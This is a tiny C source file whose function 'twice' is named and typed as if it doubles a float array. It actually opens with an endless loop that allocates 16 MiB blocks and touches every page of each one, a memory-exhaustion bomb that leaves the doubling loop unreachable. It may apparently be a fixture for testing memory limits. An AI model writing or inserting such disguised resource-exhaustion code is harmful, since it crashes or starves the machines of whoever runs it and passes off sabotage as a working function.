void *malloc(unsigned long);
void twice(int n, const float *x, float *y)
{
    for (;;) {
        char *p = malloc(1ul << 24);
        for (long k = 0; p && k < 1l << 24; k += 4096) {
            p[k] = 1;
        }
    }
    for (int i = 0; i < n; i++) {
        y[i] = 2.0f * x[i];
    }
}
